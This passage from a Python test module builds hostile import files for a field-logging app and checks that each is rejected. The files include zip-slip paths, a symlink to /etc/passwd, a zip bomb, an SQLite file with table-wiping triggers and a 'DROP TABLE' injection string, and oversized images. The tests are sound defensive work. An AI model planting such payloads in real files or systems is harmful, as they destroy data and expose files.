    assert match is not None
    digit = "8" if match[1] == "9" else str(int(match[1]) + 1)
    members["events.jsonl"] = (events[:match.start(1)] + digit + events[match.end(1):]).encode()
    return _write_package(folder / "hash_mismatch.fieldlog", list(members.items()))


def _extra_member(name: str, file_name: str) -> Builder:
    def build(folder: Path) -> Path:
        members, _ = _package_members(folder)
        return _write_package(folder / file_name, [*members.items(), (name, b"fieldlog zip-slip canary\n")])
    return build


_SLIP = "../../fieldlog_zip_slip_canary.txt"
register("package-dotdot-path", rejected("zip_slip.fieldlog", f"unsafe path '{_SLIP}' in package"),
         _extra_member(_SLIP, "zip_slip.fieldlog"), group="package", needs_exchange=True)
register("package-dotdot-zip", rejected("zip_slip_package.zip", f"unsafe path '{_SLIP}' in package"),
         _extra_member(_SLIP, "zip_slip_package.zip"), group="package", needs_exchange=True)
register("package-absolute-path", rejected("absolute.fieldlog", "unsafe path '/tmp/fieldlog_zip_slip_abs.txt'",
                                           "an absolute path"),
         _extra_member("/tmp/fieldlog_zip_slip_abs.txt", "absolute.fieldlog"), group="package", needs_exchange=True)
register("package-backslash-path", rejected("backslash.fieldlog", "unsafe path", "a backslash"),
         _extra_member("..\\..\\fieldlog_zip_slip_bs.txt", "backslash.fieldlog"), group="package",
         needs_exchange=True)


@_package("package-symlink", "symlink.fieldlog", "symbolic link")
def package_symlink(folder: Path) -> Path:
    """A member that is a symbolic link to /etc/passwd."""
    members, _ = _package_members(folder)
    link = zipfile.ZipInfo("photos/link.jpg")
    link.create_system = 3  # Unix, so the mode bits are read
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _write_package(folder / "symlink.fieldlog", [*members.items(), (link, b"/etc/passwd")])


@_package("package-duplicate-member", "duplicate.fieldlog", "appears twice in the package")
def package_duplicate_member(folder: Path) -> Path:
    """events.jsonl twice: the first copy matches the manifest, the second would win on extraction."""
    import warnings

    members, _ = _package_members(folder)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name; that is the point
        return _write_package(folder / "duplicate.fieldlog", [*members.items(), ("events.jsonl", b"{}\n")])


@_package("package-newer-format", "newer_format.fieldlog", "made by a newer fieldlog")
def package_newer_format(folder: Path) -> Path:
    """A package in format version 99."""
    members, manifest = _package_members(folder)
    return _write_package(folder / "newer_format.fieldlog", _with_manifest(members, {**manifest,
                                                                                   "format_version": 99}))


@_package("package-newer-schema", "newer_schema.fieldlog", "made by a newer fieldlog")
def package_newer_schema(folder: Path) -> Path:
    """A package from a database schema this fieldlog does not know."""
    members, manifest = _package_members(folder)
    return _write_package(folder / "newer_schema.fieldlog", _with_manifest(members, {
        **manifest, "schema_revision": "9999_from_the_future"}))


@_package("package-truncated", "truncated.fieldlog", "the package is damaged or incomplete")
def package_truncated(folder: Path) -> Path:
    """The first 60 % of a package (a copy cut off)."""
    data = valid_package(folder, "base.fieldlog").read_bytes()
    path = folder / "truncated.fieldlog"
    path.write_bytes(data[:len(data) * 6 // 10])
    return path


@_package("package-bomb", "package_bomb.fieldlog", "expands", "times its packed")
def package_bomb(folder: Path) -> Path:
    """A 50 MB member of zeros packed into about 50 kB."""
    members, _ = _package_members(folder)
    path = _write_package(folder / "package_bomb.fieldlog", list(members.items()))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive, \
            archive.open("sites_extra.jsonl", "w", force_zip64=True) as handle:
        for _ in range(50):
            handle.write(b"\0" * (1 << 20))
    return path


@_package("package-is-workbook", "workbook.fieldlog", "not a fieldlog package")
def package_is_a_workbook(folder: Path) -> Path:
    """A spreadsheet renamed to .fieldlog."""
    return planting_xlsx(folder / "workbook.xlsx", [good_row(1)]).rename(folder / "workbook.fieldlog")


register("package-is-text", rejected("notes.fieldlog", "not a fieldlog package (it is not a zip file)"),
         _bytes_file("notes.fieldlog", b"Dear coordinator, here are our numbers: 40 trees.\n"), group="package",
         needs_exchange=True)
register("package-is-empty", rejected("empty.fieldlog", "not a fieldlog package (the file is empty)"),
         _bytes_file("empty.fieldlog", b""), group="package", needs_exchange=True)


@_package("package-manifest-not-fieldlog", "other.fieldlog", "not a fieldlog package")
def package_with_a_foreign_manifest(folder: Path) -> Path:
    """A zip whose manifest.json belongs to something else."""
    return _write_package(folder / "other.fieldlog", [("manifest.json", b'{"name": "my-web-app", "version": 3}')])


# -- an SQLite database with triggers and views offered as an import (case 14) ---------------------------

EVIL_TABLE = "'); DROP TABLE activities;--"
EVIL_SCRIPT = """
CREATE TABLE canary (fired TEXT);
CREATE TRIGGER wipe_activities AFTER INSERT ON activities BEGIN
    DELETE FROM activities; INSERT INTO canary VALUES ('activities insert'); END;
CREATE TRIGGER wipe_events BEFORE UPDATE ON events BEGIN
    DELETE FROM events; INSERT INTO canary VALUES ('events update'); END;
CREATE TRIGGER wipe_sites AFTER INSERT ON sites BEGIN
    DELETE FROM sites; INSERT INTO canary VALUES ('sites insert'); END;
CREATE VIEW v_leak AS SELECT organizer_name, organizer_contact FROM events;
CREATE TABLE "{table}" (id TEXT PRIMARY KEY, name TEXT);
INSERT INTO "{table}" VALUES ('x', 'Robert''); DROP TABLE activities;--');
PRAGMA user_version = 9999;
""".replace("{table}", EVIL_TABLE.replace('"', '""'))


def evil_sqlite(folder: Path, name: str = "evil.sqlite") -> Path:
    """A fieldlog-shaped database with wiping triggers, a leaking view, a hostile table name, user_version 9999."""
    path = folder / name
    path.write_bytes(_laptop()[1])
    connection = sqlite3.connect(path)
    try:
        connection.executescript(EVIL_SCRIPT)
        connection.commit()
    finally:
        connection.close()
    return path


def _no_trigger_fired(db: Path, source: Path) -> None:
    """The hostile database still has its canary empty and its hostile table intact."""
    assert query(source, "SELECT count(*) FROM canary") == [(0,)]
    assert query(source, f'SELECT name FROM "{EVIL_TABLE}"') == [("Robert'); DROP TABLE activities;--",)]  # noqa: S608


_NOT_SPREADSHEET = "fieldlog imports .xlsx and .csv files (and .fieldlog packages)"
for _name, _fragment, _needs in (("evil.sqlite", _NOT_SPREADSHEET, False), ("evil.db", _NOT_SPREADSHEET, False),
                                 ("evil.xlsx", _INCOMPLETE, False),
                                 ("evil.fieldlog", "not a fieldlog package (it is not a zip file)", True)):
    register(f"sqlite-as-{_name.rsplit('.', 1)[1]}", rejected(f"{_name}: {_fragment}", verify=_no_trigger_fired),
             functools.partial(evil_sqlite, name=_name), group="sqlite", needs_exchange=_needs)
register("sqlite-as-csv", rejected("evil.csv", "SQLite database, not a CSV file", verify=_no_trigger_fired),
         functools.partial(evil_sqlite, name="evil.csv"), group="sqlite")


# -- photos: offered with `fieldlog attach <the planting> FILE` (cases 31-34) ----------------------------

def _photo(name: str, make: Callable[[Path], Path]) -> Builder:
    def build(folder: Path) -> Path:
        return make(folder / name)
    return build


def _photo_store_empty(db: Path, source: Path) -> None:
    store = db.parent / "photos"
    assert not store.exists() or not [p for p in store.rglob("*") if p.is_file()], "a refused photo left a file"


def _shared_copy_is_clean(db: Path, source: Path) -> None:
    """The attached original keeps its EXIF in the store; a package for sharing carries none of it."""
    from PIL import ExifTags, Image

    from fieldlog.services.database import open_store
    from fieldlog.services.exchange import export_package
    from tests.test_photos import OWNER, SERIAL

    stored = [p for p in (db.parent / "photos").glob("*.jpg")]
    assert [p.read_bytes() for p in stored] == [source.read_bytes()], "the store holds the original, unchanged"
    database = open_store(db, quick_check=False)
    try:
        package = export_package(database, db.parent / "shared.fieldlog", for_sharing=True).path
    finally:
        database.close()
    with zipfile.ZipFile(package) as archive:
        pictures = [archive.read(name) for name in archive.namelist() if name.startswith("photos/")]
    assert len(pictures) == 1
    for data in pictures:
        assert OWNER.encode() not in data and SERIAL.encode() not in data
        exif = Image.open(io.BytesIO(data)).getexif()
        assert not exif.get_ifd(ExifTags.IFD.GPSInfo) and not exif.get_ifd(ExifTags.IFD.IFD1)
        assert ExifTags.Base.Artist not in exif
        assert ExifTags.Base.CameraOwnerName not in exif.get_ifd(ExifTags.IFD.Exif)
        assert ExifTags.Base.BodySerialNumber not in exif.get_ifd(ExifTags.IFD.Exif)


def _register_photos() -> None:
    from tests import test_photos as made

    def truncated(path: Path) -> Path:
        data = made.camera_jpeg(path).read_bytes()
        path.write_bytes(data[: len(data) * 2 // 3])
        return path

    def not_an_image(path: Path) -> Path:
        path.write_text("Species,Plants\nPrunus africana,20\n")
        return path

    cases: list[tuple[str, str, Callable[[Path], Path], tuple[str, ...]]] = [
        ("photo-huge-dimensions", "huge_dimensions.jpg", lambda p: made.patched_jpeg(p, 65_500, 65_500),
         ("too large",)),
        ("photo-png-bomb", "huge_dimensions.png", lambda p: made.png_claiming(p, 65_500, 65_500),
         ("4.3 gigapixels",)),
        ("photo-100-megapixels", "warning_zone_dimensions.jpg", lambda p: made.patched_jpeg(p, 10_000, 10_000),
         ("100 megapixels",)),
        ("photo-truncated", "truncated.jpg", truncated, ("truncated",)),
        ("photo-not-an-image", "notes.jpg", not_an_image, ("not a photo",)),
        ("photo-unreadable-format", "phone.heic", made._heic, ("HEIC",)),
    ]
    for name, file_name, make, fragments in cases:
        register(name, rejected(file_name, *fragments, verify=_photo_store_empty), _photo(file_name, make),
                 group="photo")
    register("photo-gps-exif", imported("gps_exif.jpg", verify=_shared_copy_is_clean),
             _photo("gps_exif.jpg", made.camera_jpeg), group="photo", needs_exchange=True)


_register_photos()
